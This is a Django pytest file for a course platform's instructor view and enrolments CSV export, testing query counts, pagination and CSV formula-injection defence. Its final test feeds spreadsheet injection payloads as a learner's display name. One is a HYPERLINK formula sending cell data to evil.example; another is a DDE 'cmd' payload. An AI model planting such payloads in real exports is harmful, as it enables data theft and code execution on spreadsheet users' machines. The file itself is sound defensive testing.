"""The instructor's view of a course at scale: the learners a page at a time, the same
number of queries for ten learners or a hundred, and the enrolments CSV streamed from
the database with every learner in it and no formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from itertools import count

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from courses.models import Enrolment, LessonProgress, QuizAttempt
from members.models import User
from tests.courses.factories import build_course, lessons_of, make_question, teaching
from tests.factories import UserFactory, instructor
from tests.support.signin import sign_in

pytestmark = pytest.mark.django_db
HOST = {"HTTP_HOST": "localhost"}
_people = count()


def add_learners(course, n: int, *, question) -> list[User]:
    """n learners enrolled, each done with the first lesson and with one quiz attempt
    (every third one answered wrongly)."""
    first = lessons_of(course)[0]
    users = User.objects.bulk_create(
        [
            User(email=f"learner{next(_people):05d}@example.org", display_name=f"Learner {i}")
            for i in range(n)
        ]
    )
    Enrolment.objects.bulk_create([Enrolment(user=u, course=course) for u in users])
    LessonProgress.objects.bulk_create(
        [LessonProgress(user=u, lesson=first, completed_at=timezone.now()) for u in users]
    )
    QuizAttempt.objects.bulk_create(
        [
            QuizAttempt(
                user=u,
                lesson=first,
                block_id="quiz",
                answers={str(question.id): []},
                results={str(question.id): i % 3 != 0},
                score=0,
                pass_mark=50,
                passed=False,
            )
            for i, u in enumerate(users)
        ]
    )
    return users


@pytest.fixture
def taught(client, login_as):
    question = make_question(stem="Which tag holds the modality?")
    course = build_course(modules=2, lessons_per_module=3, quiz_questions=[question])
    teacher = instructor()
    teaching(course, teacher)
    login_as(teacher)
    return course, question


def instructor_page(client, course, query: str = "") -> str:
    response = client.get(reverse("course-instructor", args=[course.id]) + query, **HOST)
    assert response.status_code == 200
    return response.content.decode()


def csv_export(client, course) -> list[list[str]]:
    response = client.get(reverse("course-instructor", args=[course.id]) + "?format=csv", **HOST)
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_instructor_view_costs_the_same_with_ten_times_the_learners(
    client, taught, django_assert_num_queries
):
    course, question = taught
    add_learners(course, 10, question=question)
    instructor_page(client, course)  # warm the per-process site caches
    with CaptureQueriesContext(connection) as small:
        page = instructor_page(client, course)
    assert "<dt>Enrolled</dt><dd>10</dd>" in page
    assert "Which tag holds the modality?" in page
    assert "4 of 10 (40%)" in page  # learners 0, 3, 6 and 9 answered wrongly

    add_learners(course, 90, question=question)
    with django_assert_num_queries(len(small)):
        page = instructor_page(client, course)
    assert "<dt>Enrolled</dt><dd>100</dd>" in page
    assert "34 of 100 (34%)" in page
    assert page.count("@example.org)</th>") == 50  # one page of learners
    assert "Showing 1–50 of 100" in page


def test_the_learners_list_pages_through_every_learner_accessibly(client, taught):
    course, question = taught
    emails = sorted(u.email for u in add_learners(course, 120, question=question))
    first = instructor_page(client, course)
    assert '<nav class="pagination-nav" aria-label="Pages of learners">' in first
    assert 'aria-current="page"><span class="visually-hidden">Page </span>1</a>' in first
    assert emails[0] in first and emails[50] not in first
    last = instructor_page(client, course, "?page=3")
    assert "Showing 101–120 of 120" in last and emails[119] in last and emails[0] not in last
    assert 'rel="prev"' in last and 'rel="next"' not in last
    # A page past the end or not a number is still a page, never an error.
    assert emails[119] in instructor_page(client, course, "?page=99")
    assert emails[0] in instructor_page(client, course, "?page=abc")


def test_the_enrolments_csv_streams_every_learner_in_the_same_queries_at_ten_times_the_size(
    client, taught, django_assert_num_queries
):
    course, question = taught
    add_learners(course, 10, question=question)
    csv_export(client, course)
    with CaptureQueriesContext(connection) as small:
        lines = csv_export(client, course)
    assert lines[0] == [
        "email", "name", "enrolled_at", "deadline", "lessons_done", "percent", "completed_at"
    ]  # fmt: skip
    assert len(lines) == 11
    add_learners(course, 90, question=question)
    with django_assert_num_queries(len(small)):
        lines = csv_export(client, course)
    assert len(lines) == 101
    # Every learner finished the first of six required lessons: 1 done, 17%.
    assert all(line[4:6] == ["1", "17"] for line in lines[1:])


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ],
)
def test_a_learner_who_names_themselves_a_formula_reaches_the_csv_as_text(client, taught, name):
    course, _question = taught
    learner = UserFactory(email="mallory@example.org")
    Enrolment.objects.create(user=learner, course=course)
    attacker = Client()
    sign_in(attacker, learner)
    response = attacker.post(
        reverse("members:profile"), {"display_name": name, "first_name": "", "last_name": ""}
    )
    assert response.status_code == 302
    learner.refresh_from_db()
    assert learner.display_name == name

    row = next(row for row in csv_export(client, course) if row[0] == "mallory@example.org")
    assert row[1] == "'" + name
